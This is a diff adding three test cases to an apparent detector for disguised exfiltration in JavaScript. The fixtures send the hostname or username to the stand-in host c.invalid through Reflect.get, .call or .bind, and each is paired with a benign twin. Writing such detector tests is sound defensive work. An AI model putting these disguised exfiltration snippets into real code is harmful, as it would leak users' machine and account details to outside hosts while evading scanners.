@@ -10,6 +10,24 @@ import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/
 
 const CASES: DetectorCase[] = [
   {
+    name: 'disguised sink: Reflect.get of the request function',
+    code: "const os = require('os'); const https = require('https');\nReflect.get(https, 'get')('https://c.invalid/?h=' + os.hostname());",
+    expect: [{ severity: 'high', line: 2, messageIncludes: 'the call is disguised (Reflect.get)' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nReflect.get(https, 'get')('https://c.invalid/?v=' + os.platform());" },
+  },
+  {
+    name: 'disguised sink: .call with the arguments shifted',
+    code: "const os = require('os'); const https = require('https');\nhttps.get.call(https, 'https://c.invalid/?u=' + os.userInfo().username);",
+    expect: [{ severity: 'high', line: 2, sourceKind: 'user', messageIncludes: 'called through .call' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nhttps.get.call(https, 'https://c.invalid/?v=' + os.arch());" },
+  },
+  {
+    name: 'disguised sink: a bound request function',
+    code: "const os = require('os'); const https = require('https');\nconst send = https.request.bind(https);\nsend({ host: 'c.invalid', path: '/?h=' + os.hostname() }).end();",
+    expect: [{ severity: 'high', line: 3, messageIncludes: 'bound with .bind' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst send = https.request.bind(https);\nsend({ host: 'c.invalid', path: '/?v=' + os.release() }).end();" },
+  },
+  {
     name: 'disguised: an entry searched with Object.entries(...).find',
     code: "const os = require('os'); const https = require('https');\nconst [, fn] = Object.entries(os).find(([k]) => k === 'hostname'); const host = fn();\nhttps.get('https://c.invalid/?h=' + host);",
     expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'Object.entries' }],
